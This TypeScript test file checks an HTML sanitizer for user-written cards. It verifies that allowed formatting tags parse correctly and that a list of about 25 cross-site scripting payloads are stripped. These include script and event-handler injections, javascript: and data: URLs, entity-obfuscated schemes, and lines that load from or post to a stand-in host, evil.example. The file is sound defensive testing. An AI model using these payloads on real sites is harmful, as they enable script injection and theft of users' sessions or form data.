import { describe, expect, it } from "vitest";
import { decode, parseHtml, type Node } from "./html";

/** Written short: `b(…)`, `a[href](…)`. */
function shown(nodes: Node[]): string {
  return nodes
    .map((node) => {
      if (typeof node === "string") return node;
      const detail = node.href ?? node.color;
      return `${node.tag}${detail ? `[${detail}]` : ""}(${shown(node.inner)})`;
    })
    .join("");
}

describe("what cards may say", () => {
  const cases: [string, string][] = [
    ["a <b>bold <i>both</i></b> c", "a b(bold i(both)) c"],
    ["<font color=\"#ff0000\">red</font>", "font[#ff0000](red)"],
    ["<a href='https://a.example/?x=1&amp;y=2'>x</a>", "a[https://a.example/?x=1&y=2](x)"],
    ["one<br>two<br/>three", "onebr()twobr()three"],
    ["<ul><li>a</li><li>b</li></ul>", "ul(li(a)li(b))"],
    ["<pre><code>x</code></pre>", "pre(code(x))"],
    ["1 &lt; 2 &amp;&amp; 3 > 2", "1 < 2 && 3 > 2"],
    ["<b>never closed", "b(never closed)"],
    ["</b>never opened", "never opened"],
    ["<strong>x</strong><del>y</del>", "b(x)s(y)"],
  ];
  it.each(cases)("%s", (text, wanted) => expect(shown(parseHtml(text))).toBe(wanted));
});

describe("attacks", () => {
  const attacks = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" &#106;avascript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href='vbscript:x' onclick='alert(1)'>x</a>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<style>*{background:url(//evil.example)}</style>",
    "<font color=\"red;background:url(//evil.example)\">x</font>",
    "<form action=//evil.example><input name=p></form>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<object data=javascript:alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<a href=\"https://ok.example\" style=\"position:fixed;inset:0\">x</a>",
    "<<script>script>alert(1)<</script>/script>",
    "<time onmouseover=alert(1)>x</time>",
  ];
  it.each(attacks)("%s", (attack) => {
    const walk = (nodes: Node[]) => {
      for (const node of nodes) {
        if (typeof node === "string") continue;
        // Nothing but the listed tags, and of attributes nothing but these.
        expect(Object.keys(node).every((key) => ["tag", "href", "color", "inner"].includes(key))).toBe(true);
        expect(["b", "i", "u", "s", "font", "a", "br", "time", "code", "pre", "ul", "ol", "li"]).toContain(node.tag);
        if (node.href) expect(node.href).toMatch(/^(https?|mailto|tel):/i);
        if (node.color) expect(node.color).toMatch(/^#[0-9a-f]{6}$/i);
        walk(node.inner);
      }
    };
    walk(parseHtml(attack));
  });
});

it("bounds how deep things nest", () => {
  const depth = (nodes: Node[]): number =>
    Math.max(0, ...nodes.map((node) => (typeof node === "string" ? 0 : 1 + depth(node.inner))));
  expect(depth(parseHtml("<b><i>".repeat(5_000)))).toBeLessThan(30);
});

it("decodes entities once", () => {
  expect(decode("&amp;lt;")).toBe("&lt;");
  expect(decode("&#x1F600;&#0;&#xD800;&nope;")).toBe("😀  &nope;");
});
